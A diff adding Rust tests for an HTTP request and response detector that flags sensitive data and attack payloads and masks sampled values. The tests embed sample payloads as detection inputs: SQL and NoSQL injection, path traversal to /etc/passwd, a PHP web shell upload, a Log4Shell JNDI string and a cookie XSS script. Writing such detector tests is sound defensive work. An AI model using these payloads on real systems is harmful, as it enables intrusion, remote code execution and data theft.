@@ -1,0 +1,144 @@
+use super::*;
+
+fn scan_json(detector: &Detector, direction: Direction, body: &str) -> Vec<(String, String)> {
+    let mut out = Findings::new(64);
+    let walk = detector.scan_body(
+        direction,
+        "application/json; charset=utf-8",
+        body.as_bytes(),
+        WalkLimits::default(),
+        &mut out,
+    );
+    assert!(walk.is_some_and(|w| w.complete));
+    out.items.iter().map(|f| (f.class.clone(), f.location())).collect()
+}
+
+#[test]
+fn json_body_findings_carry_class_and_location() {
+    let detector = Detector::default();
+    let body =
+        r#"{"cards":[{"number":"4111 1111 1111 1111"},{"number":5500005555555559}],"q":"1' or '1'='1","name":"Ann"}"#;
+    let got = scan_json(&detector, Direction::Request, body);
+    assert_eq!(
+        got,
+        vec![
+            ("credit_card".to_owned(), "request.body.$.cards[*].number".to_owned()),
+            ("sqli".to_owned(), "request.body.$.q".to_owned()),
+        ]
+    );
+    // responses: sensitive data only
+    let got = scan_json(&detector, Direction::Response, body);
+    assert_eq!(got, vec![("credit_card".to_owned(), "response.body.$.cards[*].number".to_owned())]);
+}
+
+#[test]
+fn values_never_leave_unless_masking_is_on() {
+    let body = r#"{"card":"4111111111111111"}"#;
+    let detector = Detector::default();
+    let mut out = Findings::new(8);
+    detector.scan_body(Direction::Response, "application/json", body.as_bytes(), WalkLimits::default(), &mut out);
+    assert_eq!(out.items.len(), 1);
+    assert_eq!(out.items[0].masked_sample, None);
+    let detector = Detector::new(DetectConfig { masked_samples: true, ..DetectConfig::default() }).unwrap_or_default();
+    let mut out = Findings::new(8);
+    detector.scan_body(Direction::Response, "application/json", body.as_bytes(), WalkLimits::default(), &mut out);
+    assert_eq!(out.items[0].masked_sample.as_deref(), Some("4111********1111"));
+}
+
+#[test]
+fn classes_can_be_switched_off_and_added() {
+    let config = DetectConfig {
+        disabled_classes: vec!["email".into()],
+        custom_classes: vec![CustomClass {
+            name: "employee_id".into(),
+            regex: r"^EMP-\d{6}$".into(),
+            key_regex: Some("(?i)employee".into()),
+        }],
+        ..DetectConfig::default()
+    };
+    let detector = Detector::new(config).unwrap_or_default();
+    let got = scan_json(
+        &detector,
+        Direction::Response,
+        r#"{"email":"a@example.com","employee":"EMP-123456","other":"EMP-123456"}"#,
+    );
+    assert_eq!(got, vec![("employee_id".to_owned(), "response.body.$.employee".to_owned())]);
+    let bad = Detector::new(DetectConfig { disabled_classes: vec!["nope".into()], ..DetectConfig::default() });
+    assert!(matches!(bad, Err(DetectError::UnknownClass(_))));
+    let bad = Detector::new(DetectConfig {
+        custom_classes: vec![CustomClass { name: "x".into(), regex: "(".into(), key_regex: None }],
+        ..DetectConfig::default()
+    });
+    assert!(bad.is_err_and(|e| e.to_string().contains("custom class \"x\": invalid value regex")));
+}
+
+#[test]
+fn query_form_multipart_headers_and_cookies() {
+    let detector = Detector::default();
+    let mut out = Findings::new(64);
+    detector.scan_path_and_query("/files/..%2f..%2fetc/passwd", "q=%27+or+1%3D1--&user[$ne]=x", &mut out);
+    detector.scan_body(
+        Direction::Request,
+        "application/x-www-form-urlencoded",
+        b"password=hunter2&ssn=536-90-4399",
+        WalkLimits::default(),
+        &mut out,
+    );
+    let multipart = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n<?php system($_GET[c]); ?>\r\n--b--";
+    detector.scan_body(
+        Direction::Request,
+        "multipart/form-data; boundary=b",
+        multipart.as_bytes(),
+        WalkLimits::default(),
+        &mut out,
+    );
+    detector.scan_header(Direction::Request, "User-Agent", "${jndi:ldap://x/a}", &mut out);
+    detector.scan_header(Direction::Request, "Cookie", "sid=abc; pref=<script>alert(1)</script>", &mut out);
+    detector.scan_header(Direction::Request, "Authorization", "Bearer abcdefghijklmnop1234", &mut out);
+    let got: Vec<String> = out.items.iter().map(|f| format!("{} {}", f.class, f.location())).collect();
+    let want = [
+        "path_traversal request.path.",
+        "sqli request.query.q",
+        "nosqli request.query.user[$ne]",
+        "password request.body.password",
+        "us_ssn request.body.ssn",
+        "php_injection request.body.f",
+        "log4shell request.header.user-agent",
+        "xss request.cookie.pref",
+    ];
+    assert_eq!(got, want);
+}
+
+#[test]
+fn text_bodies_and_limits() {
+    let detector = Detector::default();
+    let mut out = Findings::new(2);
+    let text = "key AKIAZ3MHQ5TQ2VX7RD4K mail a@example.com card 4111111111111111";
+    detector.scan_body(Direction::Response, "text/plain", text.as_bytes(), WalkLimits::default(), &mut out);
+    assert_eq!(out.items.len(), 2);
+    assert_eq!(out.dropped, 1);
+}
+
+#[test]
+fn mask_keeps_edges_only() {
+    assert_eq!(mask("4111111111111111"), "4111********1111");
+    assert_eq!(mask("a@b.co"), "a@*.co");
+    assert_eq!(mask("abc"), "***");
+}
+
+proptest::proptest! {
+    /// Arbitrary bytes in every part: no panic, bounded output.
+    #[test]
+    fn any_input_is_safe(body in proptest::collection::vec(proptest::num::u8::ANY, 0..600), text in ".{0,200}") {
+        let detector = Detector::default();
+        let mut out = Findings::new(16);
+        for ct in ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain"] {
+            detector.scan_body(Direction::Request, ct, &body, WalkLimits::default(), &mut out);
+        }
+        detector.scan_path_and_query(&text, &text, &mut out);
+        detector.scan_header(Direction::Request, "cookie", &text, &mut out);
+        let site = Site { direction: Direction::Request, part: Part::Body, field: "x", key: "x" };
+        detector.scan_value(site, &text, &mut out);
+        proptest::prop_assert!(out.items.len() <= 16);
+    }
+}
